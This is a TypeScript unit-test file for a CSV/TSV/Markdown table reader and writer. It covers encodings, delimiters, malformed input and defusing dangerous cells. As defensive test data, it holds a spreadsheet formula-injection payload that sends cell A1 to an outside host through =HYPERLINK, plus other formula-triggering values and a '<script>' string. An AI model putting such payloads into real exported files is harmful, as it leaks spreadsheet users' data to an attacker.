import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { atOnce } from '@/lib/model/slices';
import { LARGEST_TABLE, MOST_ROWS, type ReadingOptions, readTable } from '@/lib/table/read';
import { safeCell } from '@/lib/table/safe';
import { markdownText, writeCsv, writeMarkdownTable, writeTsv } from '@/lib/table/write';

const read = (source: Uint8Array | string, options?: ReadingOptions) =>
  atOnce(readTable(source, options));

/** The table, or a failed test. */
function table(source: Uint8Array | string, options?: ReadingOptions) {
  const reading = read(source, options);
  if (!reading.ok) throw new Error(JSON.stringify(reading.problem));
  return reading.table;
}

const cells = (source: Uint8Array | string, options?: ReadingOptions) =>
  table(source, options).rows.map((row) => row.cells);

function utf16(text: string, isLittle: boolean, mark = true): Uint8Array {
  const units = [...(mark ? '\ufeff' : ''), ...text].flatMap((one) => one.split(''));
  return Uint8Array.from(
    units.flatMap((unit) => {
      const code = unit.charCodeAt(0);
      return isLittle ? [code & 255, code >> 8] : [code >> 8, code & 255];
    }),
  );
}

describe('reading a table', () => {
  it.each([
    [',', 'a@x.io,"EMEA, APAC",Ann'],
    [';', 'a@x.io;"EMEA, APAC";Ann'],
    ['\t', 'a@x.io\tEMEA, APAC\tAnn'],
  ] as const)('guesses what divides it: %j', (delimiter, line) => {
    const found = table(`${line}\n${line}\n`);
    expect(found.delimiter).toBe(delimiter);
    expect(found.rows[1]?.cells).toEqual(['a@x.io', 'EMEA, APAC', 'Ann']);
  });

  it('is told what divides it, by the person or by its first line', () => {
    expect(cells('a;b,c', { delimiter: ',' })).toEqual([['a;b', 'c']]);
    const { rows } = table('sep=;\na,1;b,2\n');
    expect(rows).toEqual([{ line: 2, cells: ['a,1', 'b,2'] }]);
  });

  it.each(['\n', '\r\n', '\r'])(
    'takes any line end, and counts lines past blank ones: %j',
    (end) => {
      const { rows } = table(['a,b', '', '"1', '2",c', ' , ', 'd,e'].join(end));
      expect(rows).toEqual([
        { line: 1, cells: ['a', 'b'] },
        { line: 3, cells: ['1\n2', 'c'] },
        { line: 6, cells: ['d', 'e'] },
      ]);
    },
  );

  it('reads UTF-8 and UTF-16 with and without a mark, and what can only be Windows-1252', () => {
    const text = 'jörg@x.io,Größe 東京 😀\n';
    const wanted = [['jörg@x.io', 'Größe 東京 😀']];
    expect(cells(new TextEncoder().encode(text))).toEqual(wanted);
    expect(cells(new TextEncoder().encode(`\ufeff${text}`))).toEqual(wanted);
    expect(cells(`\ufeff${text}`)).toEqual(wanted);
    for (const isLittle of [true, false]) {
      expect(cells(utf16(text, isLittle))).toEqual(wanted);
      expect(cells(utf16(text, isLittle, false))).toEqual(wanted);
    }
    const old = Uint8Array.from([...'a@x.io,Gr'].map((one) => one.charCodeAt(0)).concat(0xf6));
    expect(table(old)).toMatchObject({
      encoding: 'windows-1252',
      rows: [{ cells: ['a@x.io', 'Grö'] }],
    });
  });

  it('refuses what is no table, with the reason', () => {
    const problem = (source: Uint8Array | string) => {
      const reading = read(source);
      return reading.ok ? null : reading.problem;
    };
    expect(problem('')).toEqual({ kind: 'empty' });
    expect(problem(' \n,\n')).toEqual({ kind: 'empty' });
    expect(problem(Uint8Array.from([0x50, 0x4b, 3, 4, 20, 0, 6, 0, 8, 0]))).toEqual({
      kind: 'not-text',
    });
    expect(problem(Uint8Array.from([0xff, 0xfe, 0x41]))).toEqual({ kind: 'not-text' });
    expect(problem(new Uint8Array(LARGEST_TABLE + 1))).toEqual({ kind: 'too-large' });
    expect(problem('a\n'.repeat(MOST_ROWS))).toBeNull();
    expect(problem('a\n'.repeat(MOST_ROWS + 1))).toEqual({ kind: 'too-many-rows' });
    expect(problem('a,b\nc,"d\ne,f\n')).toEqual({ kind: 'bad-quotes', line: 2 });
    expect(problem('a,b\n\nc,"d" e\nf,"g"\n')).toEqual({ kind: 'bad-quotes', line: 3 });
  });

  it('reads cells that are longer than a step, and says how far it is', () => {
    const long = 'x,\n"'.repeat(40_000);
    const told: number[] = [];
    const written = writeCsv([
      ['a', long],
      ['b', 'c'],
    ]);
    const { rows } = table(written, { onProgress: (done, total) => told.push(done / total) });
    expect(rows.map((row) => row.line)).toEqual([1, 40_002]);
    expect(rows[0]?.cells[1]).toBe(long);
    expect(told.at(-1)).toBe(1);
  });

  it('takes no cell that two steps share for a broken one', () => {
    for (const blanks of [1, 2, 3]) {
      const line = `"a"${' '.repeat(blanks)},"b ""c"" "${' '.repeat(blanks)}`;
      const found = cells(Array.from({ length: 15_000 }, () => line).join('\n'));
      expect(found).toHaveLength(15_000);
      expect(new Set(found.map((row) => row.join('|')))).toEqual(new Set(['a|b "c" ']));
    }
  });

  it('never throws', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.uint8Array()), (source) => {
        expect(typeof read(source).ok).toBe('boolean');
      }),
    );
  });
});

/** A cell that something in it could make dangerous, or hard to quote. */
const cell = fc
  .array(
    fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\t', '\n', ' ', 'a', 'é', '東', '＝'),
  )
  .map((parts) => parts.join(''));

describe('writing a table', () => {
  it('writes what it reads', () => {
    const rows = fc.array(fc.tuple(fc.constant('a'), cell, cell), { minLength: 1 });
    fc.assert(
      fc.property(rows, (written) => {
        expect(cells(writeCsv(written), { delimiter: ',' })).toEqual(written);
        expect(cells(writeTsv(written), { delimiter: '\t' })).toEqual(written);
      }),
    );
  });

  it('writes no formula', () => {
    const hyperlink = '=HYPERLINK("http://x.io/?"&A1,"hi")';
    expect(writeCsv([[hyperlink, '@SUM(1)', '\t=1', '-2+3', 'a=b']])).toBe(
      `\ufeff"'=HYPERLINK(""http://x.io/?""&A1,""hi"")","'@SUM(1)","'\t=1","'-2+3",a=b\r\n`,
    );
    fc.assert(fc.property(cell, (text) => !/^\s*[=+\-@＝]|^[\t\n]/u.test(safeCell(text))));
  });

  it('writes Markdown in which names are text', () => {
    expect(markdownText('<script>|a_b*\n[x](y)')).toBe('&lt;script&gt;\\|a\\_b\\* \\[x\\](y)');
    expect(writeMarkdownTable(['Who', 'What'], [['a|b', 'c']])).toBe(
      '| Who | What |\n| --- | --- |\n| a\\|b | c |\n',
    );
  });
});
